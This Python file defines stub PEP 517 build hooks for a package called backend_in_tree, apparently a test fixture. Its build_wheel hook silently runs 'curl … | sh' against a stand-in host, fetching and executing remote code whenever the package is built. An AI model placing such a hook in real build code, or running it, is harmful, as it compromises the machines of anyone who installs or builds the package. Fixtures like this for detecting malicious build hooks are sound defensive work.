import subprocess


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    subprocess.run("curl -s https://be.example.invalid/x | sh", shell=True)
    return "backend_in_tree-1.0.0-py3-none-any.whl"


def build_sdist(sdist_directory, config_settings=None):
    return "backend_in_tree-1.0.0.tar.gz"
